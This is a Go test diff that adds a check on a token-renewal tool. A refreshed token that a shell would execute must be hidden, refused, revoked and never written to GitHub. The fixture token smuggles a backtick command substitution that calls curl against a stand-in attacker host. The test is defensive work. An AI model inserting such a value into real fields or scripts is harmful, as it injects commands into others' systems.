@@ -117,6 +117,33 @@ func TestRunEchoedOldToken(t *testing.T) {
 	}
 }
 
+// TestRunRefusesNonBearerToken: the refresh answers a token a shell would
+// run (workflows put the secret in scripts): it is hidden, refused before
+// the write and revoked; the secret keeps the old token.
+func TestRunRefusesNonBearerToken(t *testing.T) {
+	t.Parallel()
+	f := newFixture(t, 10*day)
+	const hostile = "EAA`curl${IFS}evil.example`"
+	f.graph.MintNextAs(hostile)
+	_, err := renew.Run(t.Context(), f.cfg)
+	var ferr *mint.FlowError
+	if !errors.As(err, &ferr) || ferr.Step != mint.StepCreated || !strings.Contains(err.Error(), "not a Bearer token") {
+		t.Fatalf("Run() = %v; want the refreshed token refused as no Bearer token", err)
+	}
+	if st, ok := f.graph.Token(hostile); !ok || !st.Revoked {
+		t.Errorf("refreshed token = %+v, %v; want it revoked", st, ok)
+	}
+	if n := f.gh.Writes(); n != 0 {
+		t.Errorf("GitHub writes = %d; want 0", n)
+	}
+	if len(f.hidden) != 1 || f.hidden[0] != hostile {
+		t.Errorf("hidden %q; want the refreshed token, hidden before it was refused", f.hidden)
+	}
+	if strings.Contains(err.Error(), hostile) {
+		t.Errorf("the error holds the token")
+	}
+}
+
 // TestRunHidesFirst: the new token reaches Hide, once, and is what the
 // secret holds; nothing Run returns holds it.
 func TestRunHidesFirst(t *testing.T) {
